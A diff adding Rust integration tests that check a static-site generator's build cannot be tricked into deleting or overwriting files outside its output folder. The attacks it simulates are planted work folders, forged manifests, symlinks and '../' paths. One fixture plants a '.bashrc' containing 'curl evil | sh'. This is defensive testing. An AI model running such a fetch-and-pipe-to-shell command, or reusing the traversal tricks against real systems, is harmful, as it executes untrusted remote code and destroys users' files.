@@ -1,1 +1,474 @@
-//! Files planted beside and within the output folder.
+//! Files planted beside and within the output folder, and folders that can't be exchanged.
+
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::Output;
+
+use crate::program::{SETTINGS, folder, path, run, site};
+
+/// A site with a page, and room beside it.
+struct Place {
+    folder: tempfile::TempDir,
+}
+
+impl Place {
+    fn new() -> Self {
+        let folder = folder(&[
+            ("docs/site.toml", SETTINGS),
+            ("docs/content/index.md", "# Home\n"),
+            ("docs/content/guide/a.md", "# A\n"),
+            ("victim/precious.txt", "years"),
+            ("victim/deep/precious.txt", "years"),
+        ]);
+        Self { folder }
+    }
+
+    fn path(&self, path: &str) -> PathBuf {
+        self.folder.path().join(path)
+    }
+
+    fn write(&self, path: &str, text: &str) {
+        let file = self.path(path);
+        fs::create_dir_all(file.parent().expect("a file has a folder")).expect("ours");
+        fs::write(file, text).expect("the folder is ours");
+    }
+
+    fn read(&self, path: &str) -> String {
+        fs::read_to_string(self.path(path)).unwrap_or_else(|error| panic!("{path}: {error}"))
+    }
+
+    /// Runs `site build` with an output folder and more arguments.
+    fn build(&self, out: &str, more: &[&str]) -> Output {
+        let (root, out) = (self.path("docs"), self.path(out));
+        let mut arguments = vec!["build", "--root", path(&root), "--out", path(&out)];
+        arguments.extend(more);
+        run(&arguments)
+    }
+
+    #[track_caller]
+    fn build_well(&self, out: &str, more: &[&str]) {
+        let output = self.build(out, more);
+        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+    }
+
+    /// Runs a build that must fail, and returns its words.
+    #[track_caller]
+    fn build_badly(&self, out: &str) -> String {
+        let output = self.build(out, &[]);
+        assert_eq!(output.status.code(), Some(1));
+        let said = String::from_utf8_lossy(&output.stderr).into_owned();
+        said.replace(path(self.folder.path()), "PLACE")
+    }
+
+    #[track_caller]
+    fn assert_victim(&self) {
+        assert_eq!(self.read("victim/precious.txt"), "years");
+        assert_eq!(self.read("victim/deep/precious.txt"), "years");
+        assert_eq!(names(&self.path("victim")), ["deep", "precious.txt"]);
+    }
+
+    /// Names beside the output that start as those of folders of builds.
+    fn work_folders(&self) -> Vec<String> {
+        let names = names(self.folder.path()).into_iter();
+        names.filter(|name| name.starts_with(".site-build-")).collect()
+    }
+}
+
+fn names(folder: &Path) -> Vec<String> {
+    let entries = fs::read_dir(folder).expect("the folder is there").flatten();
+    let mut names: Vec<String> =
+        entries.map(|entry| entry.file_name().to_string_lossy().into_owned()).collect();
+    names.sort();
+    names
+}
+
+/// Whether or not the build has a cache must make no difference to an attack.
+const WAYS: [&[&str]; 2] = [&[], &["--no-cache"]];
+
+#[test]
+fn a_planted_plan_directs_nothing() {
+    let absolute = |place: &Place| path(&place.path("victim/precious.txt")).to_owned();
+    type Planted = fn(&Place, String) -> String;
+    let plans: [Planted; 4] = [
+        |_, absolute| format!(r#"{{"target":"build","moved":[],"removed":["{absolute}"]}}"#),
+        |_, _| r#"{"target":"build","moved":[],"removed":["../victim/precious.txt"]}"#.to_owned(),
+        |_, _| r#"{"target":"build","moved":["a/precious.txt"],"removed":[]}"#.to_owned(),
+        |_, absolute| format!(r#"{{"target":"build","moved":["{absolute}"],"removed":[]}}"#),
+    ];
+    for plan in plans {
+        for way in WAYS {
+            for name in [".site-build-z", ".site-build-abc123"] {
+                let place = Place::new();
+                place.build_well("build", way);
+                place.write(&format!("{name}/.commit.json"), &plan(&place, absolute(&place)));
+                place.write(&format!("{name}/a/precious.txt"), "evil");
+                place.write("docs/content/index.md", "# Other\n");
+                place.build_well("build", way);
+                place.assert_victim();
+                assert_eq!(place.work_folders(), [name], "what is not ours stays");
+            }
+        }
+    }
+}
+
+/// A folder that looks exactly like that of a killed build is removed, and directs nothing either.
+#[cfg(unix)]
+#[test]
+fn a_planted_work_folder_is_only_removed() {
+    use std::os::unix::fs::symlink;
+    for way in WAYS {
+        let place = Place::new();
+        place.build_well("build", way);
+        let planted = ".site-build-abc123";
+        place.write(&format!("{planted}/docs-site.lock"), "");
+        place.write(&format!("{planted}/displaced/build/index.html"), "evil");
+        place.write(&format!("{planted}/displaced/.bashrc"), "curl evil | sh");
+        place.write(&format!("{planted}/site/index.html"), "evil");
+        for (from, to) in [("site/link", "../../victim"), ("displaced/victim", "../../victim")] {
+            symlink(to, place.path(planted).join(from)).expect("the folder is ours");
+        }
+        // In place of a folder of ours, and of its lock.
+        symlink("victim", place.path(".site-build-abc124")).expect("the folder is ours");
+        fs::create_dir(place.path(".site-build-abc125")).expect("the folder is ours");
+        let lock = place.path(".site-build-abc125/docs-site.lock");
+        symlink("../victim/precious.txt", lock).expect("the folder is ours");
+
+        place.write("docs/content/index.md", "# Other\n");
+        place.build_well("build", way);
+        place.assert_victim();
+        assert!(place.read("build/index.html").contains("<h1>Other</h1>"));
+        assert!(!place.path(".bashrc").exists());
+        assert_eq!(place.work_folders(), [".site-build-abc124", ".site-build-abc125"]);
+    }
+}
+
+/// A name in a shared folder can belong to anybody.
+#[cfg(unix)]
+#[test]
+#[ignore = "needs the right to give a folder to another user, which root has"]
+fn the_work_folder_of_another_user_is_left_alone() {
+    let place = Place::new();
+    place.build_well("build", &[]);
+    let planted = ".site-build-abc123";
+    place.write(&format!("{planted}/docs-site.lock"), "");
+    let nobody = Some(65534);
+    std::os::unix::fs::chown(place.path(planted), nobody, nobody).expect("the test runs as root");
+    place.build_well("build", &[]);
+    assert_eq!(place.work_folders(), [planted]);
+}
+
+#[cfg(unix)]
+#[test]
+fn links_within_the_output_are_kept_and_not_followed() {
+    use std::os::unix::fs::symlink;
+    for way in WAYS {
+        let place = Place::new();
+        place.build_well("build", way);
+        symlink("../victim", place.path("build/shortcut")).expect("the folder is ours");
+        place.write("docs/content/index.md", "# Other\n");
+        place.build_well("build", way);
+        let link = fs::read_link(place.path("build/shortcut")).expect("the link stays");
+        assert_eq!(link, Path::new("../victim"));
+        // Now the site has a folder of that name.
+        place.write("docs/content/shortcut/precious.md", "# Evil\n");
+        let said = place.build_badly("build");
+        assert!(said.contains("`PLACE/build/shortcut` was not written by a build"), "{said}");
+        place.assert_victim();
+    }
+}
+
+/// A manifest can be planted with a whole output folder. It can name files of this folder only.
+#[cfg(unix)]
+#[test]
+fn a_planted_manifest_names_files_of_its_folder_only() {
+    use std::os::unix::fs::symlink;
+    for way in WAYS {
+        let place = Place::new();
+        place.write(
+            "build/.docs-site.json",
+            r#"{"generator":"docs-site","base_url":"/","html_routes":[]}"#,
+        );
+        let absolute = place.path("victim/precious.txt");
+        let listed =
+            [path(&absolute), "../victim/precious.txt", "guide/precious.txt", "guide", "link"];
+        let manifest = serde_json::to_string(&listed).expect("text is JSON");
+        place.write("build/.docs-site.files.json", &manifest);
+        symlink("../victim", place.path("build/guide")).expect("the folder is ours");
+        symlink("../victim/precious.txt", place.path("build/link")).expect("the folder is ours");
+        place.build_well("build", way);
+        place.assert_victim();
+        assert!(place.path("build/guide").join("a.html").exists());
+        assert!(!place.path("build/guide").is_symlink(), "the manifest says that it was ours");
+    }
+}
+
+/// A repository may hold a cache; its files are named after the output's path, which can be guessed.
+#[cfg(unix)]
+#[test]
+fn links_in_place_of_the_cache_s_files_are_not_followed() {
+    use std::os::unix::fs::symlink;
+    let place = Place::new();
+    place.build_well("build", &[]);
+    let cache = place.path(".site-cache");
+    let files =
+        names(&cache).into_iter().filter(|name| name.contains("pieces") || name.contains("lock"));
+    let files: Vec<String> = files.collect();
+    assert_eq!(files.len(), 2);
+    for file in files.iter().map(|file| cache.join(file)) {
+        for more in ["draft", "state", "spare"] {
+            let planted = file.with_extension(more);
+            // Both forms were there or not.
+            let _ = fs::remove_file(&planted);
+            let _ = fs::remove_dir_all(&planted);
+            symlink("../victim", planted).expect("the folder is ours");
+        }
+        fs::remove_file(&file).expect("it is there");
+        symlink("../victim/precious.txt", &file).expect("the folder is ours");
+        // Refusing is as good as succeeding.
+        let _ = place.build("build", &[]);
+        place.assert_victim();
+        let _ = fs::remove_file(&file);
+    }
+    place.build_well("build", &[]);
+    place.assert_victim();
+}
+
+#[test]
+fn a_refused_build_touches_nothing() {
+    let place = Place::new();
+    place.write("build/thesis.txt", "years");
+    place.write("build/.docs-site.files.json", r#"["thesis.txt"]"#);
+    let said = place.build_badly("build");
+    assert!(said.contains("`PLACE/build` is not empty, and was not written by a build"), "{said}");
+    assert_eq!(names(&place.path("build")), [".docs-site.files.json", "thesis.txt"]);
+    assert_eq!(place.read("build/thesis.txt"), "years");
+    assert!(place.work_folders().is_empty());
+}
+
+#[test]
+fn what_no_build_has_written_survives_every_kind_of_build() {
+    let place = Place::new();
+    place.build_well("build", &[]);
+    let foreign = [".git/HEAD", ".git/objects/ab/cd", "CNAME", "guide/notes.txt", ".nojekyll"];
+    for file in foreign {
+        place.write(&format!("build/{file}"), file);
+    }
+    let cache = place.path(".site-cache");
+    let builds: [(&str, &[&str]); 5] = [
+        ("# Home\n", &[]),
+        ("# One edit\n", &[]),
+        ("# Another\n", &["--set", "title=Other"]),
+        ("# No cache\n", &["--no-cache"]),
+        ("# Another cache\n", &["--cache", "cache"]),
+    ];
+    for (text, more) in builds {
+        place.write("docs/content/index.md", text);
+        let other_cache = place.path("other");
+        let more: Vec<&str> = more
+            .iter()
+            .map(|more| if *more == "cache" { path(&other_cache) } else { more })
+            .collect();
+        place.build_well("build", &more);
+        for file in foreign {
+            assert_eq!(place.read(&format!("build/{file}")), file, "{text}");
+        }
+        let heading = text.trim().trim_start_matches("# ");
+        assert!(place.read("build/index.html").contains(&format!("<h1>{heading}</h1>")));
+    }
+    fs::remove_dir_all(cache).expect("the cache is there");
+    fs::remove_dir_all(place.path("docs/content/guide")).expect("it is there");
+    place.build_well("build", &[]);
+    assert!(!place.path("build/guide/a.html").exists(), "a build has written it");
+    assert_eq!(place.read("build/guide/notes.txt"), "guide/notes.txt");
+}
+
+#[test]
+fn a_page_does_not_replace_a_foreign_file() {
+    let place = Place::new();
+    place.build_well("build", &[]);
+    place.write("build/notes.html", "somebody's");
+    place.write("build/data/raw", "somebody's");
+    place.write("docs/content/notes.md", "# Notes\n");
+    place.write("docs/content/data.v1.md", "# Data\n");
+    place.write("docs/static/data", "the site's");
+    let said = place.build_badly("build");
+    insta::assert_snapshot!(said, @r"
+    error: `PLACE/build/data`, `PLACE/build/notes.html` were not written by a build, and the site has files of the same names
+      help: a build keeps what it has not written: move it away, or put it among the site's static files
+    ");
+    assert_eq!(place.read("build/notes.html"), "somebody's");
+    fs::remove_file(place.path("build/notes.html")).expect("it is there");
+    fs::remove_dir_all(place.path("build/data")).expect("it is there");
+    place.build_well("build", &[]);
+    assert!(place.read("build/notes.html").contains("<h1>Notes</h1>"));
+}
+
+#[test]
+fn a_file_is_no_output_folder() {
+    let place = Place::new();
+    place.write("notes.txt", "years");
+    insta::assert_snapshot!(place.build_badly("notes.txt"), @r"
+    error: can't write the site to `PLACE/notes.txt`: it is a file, not a folder
+      help: remove the file, or name a folder with `--out DIR`
+    ");
+    assert_eq!(place.read("notes.txt"), "years");
+}
+
+#[cfg(unix)]
+#[test]
+fn a_link_to_the_output_folder_stays() {
+    use std::os::unix::fs::symlink;
+    for way in WAYS {
+        let place = Place::new();
+        fs::create_dir_all(place.path("real/www")).expect("the folder is ours");
+        symlink("real/www", place.path("public")).expect("the folder is ours");
+        for text in ["One", "Two"] {
+            place.write("docs/content/index.md", &format!("# {text}\n"));
+            place.build_well("public", way);
+            assert!(place.read("real/www/index.html").contains(&format!("<h1>{text}</h1>")));
+            let link = fs::read_link(place.path("public")).expect("the link stays");
+            assert_eq!(link, Path::new("real/www"));
+        }
+        assert_eq!(names(&place.path("real")), ["www"]);
+    }
+}
+
+#[cfg(unix)]
+#[test]
+fn a_link_that_leads_nowhere_is_refused() {
+    let place = Place::new();
+    std::os::unix::fs::symlink("real/www", place.path("public")).expect("the folder is ours");
+    insta::assert_snapshot!(place.build_badly("public"), @r"
+    error: can't write the site to `PLACE/public`: it is a link to `real/www`, which does not exist
+      help: make the folder `real/www`, or remove the link
+    ");
+    assert!(fs::read_link(place.path("public")).is_ok() && !place.path("real").exists());
+}
+
+/// The folder in which a shell works is not exchanged: the shell would go on in the old one.
+#[test]
+fn a_folder_that_somebody_works_in_is_written_within() {
+    let place = Place::new();
+    fs::create_dir(place.path("build")).expect("the folder is ours");
+    let (root, cache) = (place.path("docs"), place.path("cache"));
+    let build = || {
+        let arguments = ["build", "--root", path(&root), "--out", ".", "--cache", path(&cache)];
+        let output = site(&arguments).current_dir(place.path("build")).output();
+        let output = output.expect("the program starts");
+        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+        String::from_utf8_lossy(&output.stdout).into_owned()
+    };
+    let identity = || fs::metadata(place.path("build")).and_then(|folder| folder.created());
+    let before = identity().ok();
+    build();
+    place.write("build/CNAME", "foreign");
+    place.write("build/guide/notes.txt", "foreign");
+    for change in ["edit", "gone", "same"] {
+        match change {
+            "edit" => place.write("docs/content/index.md", "# Edited\n"),
+            "gone" => fs::remove_file(place.path("docs/content/guide/a.md")).expect("there"),
+            _ => {}
+        }
+        let said = build();
+        assert_eq!(said.contains("nothing has changed"), change == "same", "{said}");
+        let clean = Place::new();
+        clean.write("docs/content/index.md", "# Edited\n");
+        if change != "edit" {
+            fs::remove_file(clean.path("docs/content/guide/a.md")).expect("it is there");
+        }
+        clean.build_well("build", &["--no-cache"]);
+        clean.write("build/CNAME", "foreign");
+        clean.write("build/guide/notes.txt", "foreign");
+        assert_eq!(tree(&place.path("build")), tree(&clean.path("build")), "{change}");
+    }
+    assert_eq!(identity().ok(), before, "the folder is the same");
+}
+
+fn tree(folder: &Path) -> Vec<(PathBuf, Vec<u8>)> {
+    let entries = walkdir::WalkDir::new(folder).sort_by_file_name().into_iter();
+    let files = entries.map(|entry| entry.expect("it can be read"));
+    files
+        .filter(|entry| !entry.file_type().is_dir())
+        .map(|entry| {
+            let path = entry.path().strip_prefix(folder).expect("below the folder").to_owned();
+            (path, fs::read(entry.path()).expect("it can be read"))
+        })
+        .collect()
+}
+
+/// Runs shell commands in which the program is `$SITE` and the place `$PLACE`, where they may mount.
+#[cfg(target_os = "linux")]
+fn in_own_mounts(place: &Place, commands: &str) {
+    let output = std::process::Command::new("unshare")
+        .args(["--user", "--map-root-user", "--mount", "sh", "-euc", commands])
+        .env("SITE", env!("CARGO_BIN_EXE_site"))
+        .env("PLACE", place.folder.path())
+        .output()
+        .expect("`unshare` of util-linux is there");
+    let said = String::from_utf8_lossy(&output.stderr);
+    assert!(output.status.success(), "{said}\n{}", String::from_utf8_lossy(&output.stdout));
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+#[ignore = "needs the right to mount, which containers often do not give"]
+fn a_mount_point_is_written_within() {
+    for mount in ["mount -t tmpfs none build", "mount --bind build build"] {
+        let place = Place::new();
+        let commands = format!(
+            "cd \"$PLACE\"; mkdir build; {mount}; mkdir build/lost+found\n\
+             $SITE build --root docs --out build\n\
+             echo foreign > build/CNAME; echo foreign > build/guide/notes.txt\n\
+             echo '# Other' > docs/content/index.md\n\
+             $SITE build --root docs --out build\n\
+             $SITE build --root docs --out build | grep 'nothing has changed'\n\
+             $SITE build --root docs --out clean --no-cache\n\
+             mountpoint build; test -d build/lost+found; rmdir build/lost+found\n\
+             grep foreign build/CNAME build/guide/notes.txt\n\
+             rm build/CNAME build/guide/notes.txt\n\
+             diff -r build clean"
+        );
+        in_own_mounts(&place, &commands);
+    }
+}
+
+/// A killed build leaves both sites' files in a mount point, which the next build mends.
+#[cfg(target_os = "linux")]
+#[test]
+#[ignore = "needs the right to mount, which containers often do not give"]
+fn the_next_build_mends_a_mount_point_whose_build_was_killed() {
+    let place = Place::new();
+    in_own_mounts(
+        &place,
+        "cd \"$PLACE\"; mkdir build; mount -t tmpfs none build\n\
+         for number in $(seq 60); do echo \"# Page $number\" > docs/content/page$number.md; done\n\
+         $SITE build --root docs --out build; echo foreign > build/CNAME\n\
+         for round in $(seq 20); do\n\
+           rm -f docs/content/page*.md\n\
+           for number in $(seq $round 60); do echo \"# $round $number\" > docs/content/page$number.md; done\n\
+           $SITE build --root docs --out build & sleep 0.$(printf %02d $((round * 4))); kill -9 $! || true\n\
+           wait $! || true\n\
+           $SITE build --root docs --out build\n\
+           $SITE build --root docs --out clean --no-cache\n\
+           grep foreign build/CNAME; cp build/CNAME clean/CNAME; diff -r build clean; rm clean/CNAME\n\
+           test -z \"$(ls -d build/.site-build-* .site-build-* 2>/dev/null)\"\n\
+         done",
+    );
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+#[ignore = "needs the right to mount, which containers often do not give"]
+fn a_folder_whose_parent_is_read_only_is_written_within() {
+    let place = Place::new();
+    in_own_mounts(
+        &place,
+        "cd \"$PLACE\"; mkdir -p shared/build kept other; mount --bind shared/build other\n\
+         mount --bind shared shared; mount -o remount,ro,bind shared; mount --bind other shared/build\n\
+         for text in One Two; do\n\
+           echo \"# $text\" > docs/content/index.md\n\
+           $SITE build --root docs --out shared/build --cache kept\n\
+           grep \"<h1>$text</h1>\" shared/build/index.html > /dev/null\n\
+         done",
+    );
+}
